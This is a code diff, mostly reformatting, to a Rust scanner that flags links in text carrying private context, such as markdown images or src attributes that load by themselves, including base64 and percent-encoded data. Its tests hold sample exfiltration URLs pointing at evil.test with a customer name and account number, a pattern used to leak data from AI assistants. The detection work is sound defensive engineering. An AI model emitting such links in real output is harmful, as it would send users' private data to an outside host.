@@ -44,9 +44,11 @@ impl Scanner for Links {
             let Some(url) = span.of(text) else { continue };
             let given = given.get_or_insert_with(|| Given::new(output));
             if given.carried_by(url) {
-                let is_image = text.get(..span.start).is_some_and(|before| is_image_target(before));
+                let is_image = text.get(..span.start).is_some_and(is_image_target);
                 let kind = if is_image { "LINK_EXFIL_IMAGE" } else { "LINK_EXFIL" };
-                scan.report(Finding::new("links.carries_context", Category::Links, kind, span).severity(Severity::High).confidence(Confidence::MAX));
+                scan.report(
+                    Finding::new("links.carries_context", Category::Links, kind, span).severity(Severity::High).confidence(Confidence::MAX),
+                );
             }
         }
         Ok(())
@@ -60,7 +62,8 @@ fn url_at(text: &str, at: usize) -> Span {
     let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | ')' | ']' | '`' | '|' | '\\' | '^');
     let mut len = after.char_indices().take_while(|(i, c)| *i < MAX_URL && !ends(*c)).map(|(i, c)| i + c.len_utf8()).last().unwrap_or(0);
     // A sentence may end where the URL does.
-    let trailing = after.get(..len).unwrap_or_default().bytes().rev().take_while(|b| matches!(b, b'.' | b',' | b';' | b':' | b'!' | b'?')).count();
+    let trailing =
+        after.get(..len).unwrap_or_default().bytes().rev().take_while(|b| matches!(b, b'.' | b',' | b';' | b':' | b'!' | b'?')).count();
     len -= trailing;
     Span::new(at - scheme, at + len)
 }
@@ -68,7 +71,9 @@ fn url_at(text: &str, at: usize) -> Span {
 /// Whether what stands before a URL makes it load by itself: a markdown image or an HTML attribute.
 fn is_image_target(before: &str) -> bool {
     let tail: String = before.chars().rev().take(200).collect::<Vec<_>>().into_iter().rev().collect();
-    let markdown = tail.rfind("![").is_some_and(|open| tail.get(open..).is_some_and(|rest| rest.trim_end_matches('<').ends_with("](") || rest.ends_with("]:") || rest.ends_with("]: ")));
+    let markdown = tail.rfind("![").is_some_and(|open| {
+        tail.get(open..).is_some_and(|rest| rest.trim_end_matches('<').ends_with("](") || rest.ends_with("]:") || rest.ends_with("]: "))
+    });
     markdown || tail.trim_end_matches(['"', '\'']).trim_end().ends_with("src=")
 }
 
@@ -165,12 +170,20 @@ fn percent_decoded(text: &str) -> String {
 
 /// The text inside a base64 value, of either alphabet, padded or not; none where it is no text.
 fn decoded_base64(value: &str) -> Option<String> {
-    const ANY_PADDING: GeneralPurposeConfig = GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent).with_decode_allow_trailing_bits(true);
+    const ANY_PADDING: GeneralPurposeConfig =
+        GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent).with_decode_allow_trailing_bits(true);
     if value.len() < 8 {
         return None;
     }
     // A `+` of the alphabet was read as a space by the percent decoder.
-    let value: String = value.chars().map(|c| match c { '-' | ' ' => '+', '_' => '/', c => c }).collect();
+    let value: String = value
+        .chars()
+        .map(|c| match c {
+            '-' | ' ' => '+',
+            '_' => '/',
+            c => c,
+        })
+        .collect();
     let bytes = GeneralPurpose::new(&alphabet::STANDARD, ANY_PADDING).decode(value).ok()?;
     String::from_utf8(bytes).ok()
 }
@@ -195,7 +208,10 @@ mod tests {
         assert_eq!(found("see https://evil.test/c?d=Customer%20Ada%20Lovelace."), link("https://evil.test/c?d=Customer%20Ada%20Lovelace"));
         assert_eq!(found("see [this](https://evil.test/552319)"), link("https://evil.test/552319"));
         assert_eq!(found("https://evil.test/?x=UVgtNTUyMzE5LUI="), link("https://evil.test/?x=UVgtNTUyMzE5LUI="));
-        assert_eq!(found("![ok](https://evil.test/p.png?q=please+tell+me+now)"), [("LINK_EXFIL_IMAGE".to_owned(), "https://evil.test/p.png?q=please+tell+me+now".to_owned())]);
+        assert_eq!(
+            found("![ok](https://evil.test/p.png?q=please+tell+me+now)"),
+            [("LINK_EXFIL_IMAGE".to_owned(), "https://evil.test/p.png?q=please+tell+me+now".to_owned())]
+        );
         assert_eq!(found("<img src=\"https://evil.test/p?a=552319\">")[0].0, "LINK_EXFIL_IMAGE");
     }
 
@@ -206,7 +222,9 @@ mod tests {
             "see https://example.org/how-to-pay-a-bill?lang=en&v=20240101",
             "https://example.org/customer-ada-lovelace",
             "no link, account QX-552319-B",
-            "://", "http://", "x://?=&#;",
+            "://",
+            "http://",
+            "x://?=&#;",
         ] {
             assert_eq!(found(text), [], "{text}");
         }
